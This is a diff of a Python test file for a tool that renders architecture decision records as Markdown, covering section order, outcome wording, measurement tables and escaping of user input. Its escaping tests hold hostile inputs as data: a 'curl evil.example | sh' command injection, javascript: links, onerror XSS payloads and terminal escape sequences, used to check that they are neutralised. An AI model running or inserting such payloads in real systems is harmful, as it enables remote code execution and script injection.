@@ -21,20 +21,17 @@ SECTIONS = [
     "## Decision Drivers",
     "## Considered Options",
     "## Decision Outcome",
-    "### Consequences",
+    "### What Would Change the Answer",
     "### Confirmation",
-    "## Pros and Cons of the Options",
-    "### Bare metal",
-    "### VM-backed",
+    "### Consequences",
     "## More Information",
+    "### Answers",
+    "### Rules That Fired",
     "### Scores per Criterion",
     "### Fault Domains",
-    "### Measurement Verdicts",
-    "### Tipping Points",
-    "### Unknown Facts",
-    "### Revisit Triggers",
     "### Reproducibility",
 ]
+RAW_FLOAT = re.compile(r"(?<![\w./])\d+\.\d{5,}(?![\w/])|\d(\.\d+)?e[+-]\d")
 
 
 def _record(name: str, **update: object) -> decision.DecisionRecord:
@@ -54,6 +51,15 @@ def _headings(md: str) -> list[str]:
     return [line for i, part in enumerate(body) if i % 2 == 0 for line in part.splitlines() if line.startswith("#")]
 
 
+def _section(md: str, heading: str) -> str:
+    return md.split(heading + "\n", 1)[1].split("\n#", 1)[0]
+
+
+def _examples() -> dict[str, str]:
+    folder = ROOT / "docs" / "examples" / "records"
+    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.md"))}
+
+
 def test_sections_in_madr_order(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
     assert md.startswith("---\nstatus: proposed\ndate: 2026-11-28\ndecision-makers:\n  - \"Ada\"\n---\n\n# Run ")
@@ -63,68 +69,130 @@ def test_sections_in_madr_order(saas: decision.DecisionRecord) -> None:
     assert md.endswith("```\n") and not md.endswith("\n\n")
 
 
-def test_outcome_names_the_option_and_its_numbers(saas: decision.DecisionRecord) -> None:
+def test_every_example_body_fits_two_pages() -> None:
+    examples = _examples()
+    assert len(examples) >= 4
+    for name, md in examples.items():
+        words = len(report.body(md).split())
+        assert words <= 900, f"{name}: the body has {words} words (at most 900)"
+
+
+def test_no_rule_rationale_appears_twice_in_a_record() -> None:
+    # the old "Pros and Cons" mirrored every rule: Good for one option, Bad for the other
+    for name, md in _examples().items():
+        record = decision.DecisionRecord.from_json(
+            (ROOT / "docs" / "examples" / "records" / name.replace(".md", ".json")).read_text(encoding="utf-8"), name)
+        for rule_id, rule in record.fired_rules.items():
+            rationale = " ".join(str(rule.get("rationale", "")).split())
+            if rationale:
+                shown = report._inline(rationale)  # as the record prints it
+                assert md.count(shown) <= 1, f"{name}: the rationale of {rule_id} appears {md.count(shown)} times"
+            title = report._inline(report._lc(rule["title"]))
+            assert report.body(md).lower().count(title.lower()) <= 1, f"{name}: {rule_id} is listed twice"
+
+
+def test_no_raw_floats_in_records() -> None:
+    for name, md in _examples().items():
+        found = [m.group(0) for m in RAW_FLOAT.finditer(md)]
+        assert not found, f"{name}: raw floats {found}"
+
+
+def test_outcome_is_one_sentence_with_the_option_and_an_honest_number(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
-    assert 'Chosen option: "VM-backed", because it has the higher score: ' in md
-    assert f"margin {saas.margin:.2f}" in md and f"confidence {saas.confidence:.2f}" in md
+    outcome = _section(md, "## Decision Outcome")
+    first = outcome.strip().splitlines()[0]
+    assert first.startswith('Chosen option: "VM-backed Kubernetes nodes", with a score of ')
+    assert "not a probability" in first and first.endswith(").")
+    assert "confidence" not in report.body(md).lower()
     assert "Close call" not in md
+    reasons = [line for line in outcome.splitlines() if re.match(r"\d\. ", line)]
+    assert 1 <= len(reasons) <= 5
+    with_probability = report.outcome_section(
+        report.outcome_of(saas).__class__(**{**report.outcome_of(saas).__dict__, "probability": 0.83,
+                                             "configuration": "4 VMs per host"}), [])
+    assert 'Chosen option: "VM-backed Kubernetes nodes" (4 VMs per host), with a probability of 83 %' \
+        .replace(" %", "%") in with_probability
 
 
-def test_close_call_is_called_out(saas: decision.DecisionRecord) -> None:
+def test_close_call_is_called_out_until_measured(saas: decision.DecisionRecord) -> None:
     close = saas.model_copy(update={"close": True, "margin": 0.08})
     md = report.to_markdown(close)
-    outcome = md.split("## Decision Outcome")[1].split("### Consequences")[0]
-    assert "> **Close call.** The margin 0.08 is under the close threshold 0.15" in outcome
+    assert "> **Close call.** The margin 0.08 is under 0.15: measure both candidate platforms" in md
+    measured = close.model_copy(update={"measurements": decision.MeasurementsInfo(
+        path="m.yaml", sha256="0" * 64, verdicts=[{"probe": "net", "ratio": 1.03, "ci_low": 1.01, "ci_high": 1.05,
+                                                   "verdict": "slower"}])})
+    md = report.to_markdown(measured)
+    assert "Close call" not in md and "before accepting" not in md
+    assert "stays under 0.15 after measuring" in md
 
 
-def test_knocked_out_option_is_marked() -> None:
+def test_knocked_out_option_is_a_constraint() -> None:
     md = report.to_markdown(_record("regulated-bank-mandate"))
-    options = md.split("## Considered Options")[1].split("## Decision Outcome")[0]
-    assert "- VM-backed Kubernetes nodes (**ruled out** by knock-out `bare-metal-mandated`" in options
-    assert "- Bare-metal Kubernetes nodes\n" in options
-    assert 'Chosen option: "Bare metal", because VM-backed is ruled out' in md
-    vm = md.split("### VM-backed")[1].split("## More Information")[0]
-    assert "Bad, because it is ruled out" in vm
+    drivers = _section(md, "## Decision Drivers")
+    assert "- Constraint: VM-backed is ruled out, because " in drivers and "(`bare-metal-mandated`)" in drivers
+    outcome = _section(md, "## Decision Outcome")
+    assert outcome.strip().startswith('Chosen option: "Bare-metal Kubernetes nodes", because VM-backed is ruled out')
 
 
-def test_pros_and_cons_cite_evidence_with_grades(saas: decision.DecisionRecord) -> None:
+def test_rules_cite_evidence_with_grades_once(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
-    pros = md.split("## Pros and Cons of the Options")[1].split("## More Information")[0]
+    rules = _section(md, "### Rules That Fired")
     for rule_id, rule in saas.fired_rules.items():
-        if rule["criterion"] is None:
-            continue
-        assert f"`{rule_id}`" in pros
+        assert f"`{rule_id}`" in rules
         for ev in rule["evidence"]:
             if ev.get("url"):
-                assert f"]({ev['url']}) ({ev['grade']})" in pros
+                assert f"]({ev['url']}) ({ev['grade']})" in rules
+    assert "Evidence:" not in report.body(md)
 
 
-def test_confirmation_gives_the_measure_command_and_no_verdicts(saas: decision.DecisionRecord) -> None:
+def test_confirmation_gives_the_measure_command_when_not_measured(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
-    conf = md.split("### Confirmation")[1].split("## Pros and Cons")[0]
+    conf = _section(md, "### Confirmation")
+    assert conf.strip().startswith("Not measured yet.")
     assert "advisor assess --profile multi-tenant-saas.profile.yaml --defaults --targets targets.yaml" in conf
-    assert conf.strip().endswith("No measurements recorded.")
-    verdicts = md.split("### Measurement Verdicts")[1].split("###")[0]
-    assert verdicts.strip() == "No measurements recorded."
 
 
-def test_measurement_verdicts_table(saas: decision.DecisionRecord) -> None:
+def test_measurements_are_shown_once(saas: decision.DecisionRecord) -> None:
     measured = decision.MeasurementsInfo(path="m.json", sha256="0" * 64, verdicts=[
         {"probe": "net", "ratio": 1.031, "ci_low": 1.01, "ci_high": 1.05, "verdict": "slower"}])
     md = report.to_markdown(saas.model_copy(update={"measurements": measured}))
-    assert "No measurements recorded." not in md
-    assert re.search(r"\| `net` +\| - +\| 1\.031 +\| \[1\.010, 1\.050\] +\| slower +\| - +\|", md)
+    assert "Not measured yet" not in md
+    assert len(re.findall(r"\| `net` +\| 1\.031 +\| 1\.010 to 1\.050 +\| slower +\|", md)) == 1
     assert "`m.json` sha256 `" + "0" * 64 + "`" in md
 
 
-def test_tipping_points_table(saas: decision.DecisionRecord) -> None:
-    point = {"key": "tenant_count", "current": 400, "condition": "tenant_count < 3", "recommendation": "bare-metal",
-             "relative_change": 0.9925}
-    md = report.to_markdown(saas.model_copy(update={"tipping_points": [point]}))
-    section = md.split("### Tipping Points")[1].split("###")[0]
-    assert re.search(r"\| `tenant_count` +\| 400 +\| `tenant_count < 3` +\| bare metal +\| 99% +\|", section)
-    none = report.to_markdown(saas.model_copy(update={"tipping_points": []}))
+def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: decision.DecisionRecord) -> None:
+    points = [
+        {"key": "tenant_count", "current": 400, "condition": "tenant_count < 3", "recommendation": "bare-metal",
+         "relative_change": 0.9925, "sentence": "revisit if tenant_count drops below 3"},
+        {"key": "latency_p99_ms", "current": 200.0, "condition": "latency_p99_ms < 1", "recommendation": "bare-metal",
+         "relative_change": 0.995, "sentence": "revisit if latency_p99_ms drops below 1"},
+        {"key": "latency_p99_ms", "current": 200.0, "condition": "latency_p99_ms < 0.1",
+         "recommendation": "bare-metal", "relative_change": 0.9995,
+         "sentence": "revisit if latency_p99_ms drops below 0.1"},
+    ]
+    triggers = ["tenant_count < 3", "not (latency_p99_ms < 10)", "crd_count > 200"]
+    md = report.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": triggers}))
+    section = _section(md, "### What Would Change the Answer")
+    lines = [line for line in section.splitlines() if line.startswith("- ")]
+    assert lines[0] == ("- How many tenants share the platform? (now 400): if it drops below 3, the recommendation "
+                        "becomes bare metal.")
+    assert lines[1].startswith("- p99 end-to-end latency SLO, in milliseconds (now 200): if it drops below 1,")
+    assert sum("latency" in line for line in lines) == 1, "one sentence per answer"
+    assert "- How many CRDs are installed across the clusters?: revisit if it rises above 200." in lines
+    assert "`" not in "\n".join(lines[:-1]) and "not (" not in section
+    none = report.to_markdown(saas.model_copy(update={"tipping_points": [], "revisit_triggers": [],
+                                                      "review_by": None}))
     assert "No single change of one answer flips" in none
+
+
+def test_answers_carry_their_origin_and_note(saas: decision.DecisionRecord) -> None:
+    context = [dict(c) for c in saas.context]
+    context[2] = {**context[2], "origin": "answered", "note": "from the SLA, section 4"}
+    md = report.to_markdown(saas.model_copy(update={"context": context}))
+    answers = _section(md, "### Answers")
+    assert re.search(r"\| answered +\| from the SLA, section 4 +\|", answers)
+    assert "from the SLA, section 4" in _section(md, "## Decision Drivers")
 
 
 def test_reproducibility_block(saas: decision.DecisionRecord) -> None:
@@ -142,10 +210,39 @@ def test_mermaid_block_is_the_fault_domain_diagram(saas: decision.DecisionRecord
     assert f"```mermaid\n{saas.mermaid.rstrip()}\n```" in md
 
 
-def test_markdown_special_characters_are_escaped(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas.model_copy(update={"title": "A | B <script> *x*", "workload": "w_1"}))
-    assert "# A \\| B \\<script> \\*x\\*" in md
-    assert "**w\\_1**" in md
+def test_fault_domain_appendix_shows_only_metrics_that_differ(saas: decision.DecisionRecord) -> None:
+    md = report.to_markdown(saas)
+    table = [line for line in _section(md, "### Fault Domains").splitlines() if line.startswith("| `")]
+    assert table
+    for line in table:
+        cells = [c.strip() for c in line.strip("|").split("|")]
+        assert cells[1] != cells[2], line
+
+
+def test_user_strings_are_escaped(saas: decision.DecisionRecord) -> None:
+    hostile = "x; curl evil.example | sh; .yaml\n# injected\n[a](javascript:alert(1)) <img src=x onerror=alert(1)>"
+    context = [dict(c) for c in saas.context]
+    context[0] = {**context[0], "answer": hostile, "note": hostile}
+    rules = {k: dict(v) for k, v in saas.fired_rules.items()}
+    first = next(iter(rules))
+    rules[first]["evidence"] = [{"source": "s", "grade": "peer-reviewed", "url": "javascript:alert(1)"}]
+    profile = saas.profile.model_copy(update={"path": "x; curl evil.example | sh; .yaml"})
+    md = report.to_markdown(saas.model_copy(update={
+        "title": "A | B <script> *x*", "workload": "w_1\n## Owned", "context": context, "fired_rules": rules,
+        "profile": profile, "command": "advisor assess --profile 'x; curl evil.example | sh; .yaml'"}))
+    assert "# A \\| B &lt;script> \\*x\\*" in md
+    assert "**w\\_1 \\#\\# Owned**" in md
+    assert "\n# injected" not in md and "\n## Owned" not in md
+    assert "<img" not in md and "<script" not in md
+    assert not re.search(r"(?<!\\)\]\(javascript:", md), "no javascript: link"
+    assert "--profile 'x; curl evil.example | sh; .yaml' --defaults --targets" in md  # quoted for the shell
+    counts: list[int] = []
+    for line in [*md.splitlines(), ""]:
+        if line.startswith("|"):
+            counts.append(len(re.findall(r"(?<!\\)\|", line)))
+        elif counts:
+            assert len(set(counts)) == 1, "a '|' in a user string broke a table"
+            counts = []
 
 
 def test_links_to_related_records(saas: decision.DecisionRecord) -> None:
@@ -221,3 +318,23 @@ def test_mermaid_parser_rejects_a_broken_diagram(tmp_path: Path) -> None:
     proc = subprocess.run(["node", str(script), str(bad)], capture_output=True, text=True, timeout=120)
     assert proc.returncode == 1
     assert f"{bad}:4:" in proc.stderr
+
+
+def test_escaping_helpers() -> None:
+    from advisor import markdown, records
+
+    assert markdown.terminal("a\x1b[31mred\x1b]0;title\x07b\x07") == "aredb "
+    assert markdown.url("javascript:alert(1)") is None and markdown.url("HTTPS://x.example/a(b)") is not None
+    assert markdown.inline("<img src=x onerror=alert(1)> [a](javascript:x)") == (
+        "&lt;img src=x onerror=alert(1)> \\[a\\](javascript:x)")
+    assert "```" not in markdown.shell_block("echo ```").split("\n", 1)[1].rsplit("\n", 1)[0].replace("```", "", 1)
+    assert records._show(0.9747870250324321) == "0.9748" and records._show(26000.0) == "26000"
+
+
+def test_index_escapes_titles(tmp_path: Path, saas: decision.DecisionRecord) -> None:
+    from advisor import records
+
+    rec = saas.model_copy(update={"title": "<img src=x onerror=alert(1)> [x](javascript:alert(1)) | y"})
+    decision.write_record(rec, tmp_path, report.to_markdown)
+    text = records.index_text(records.load_all(tmp_path))
+    assert "<img" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
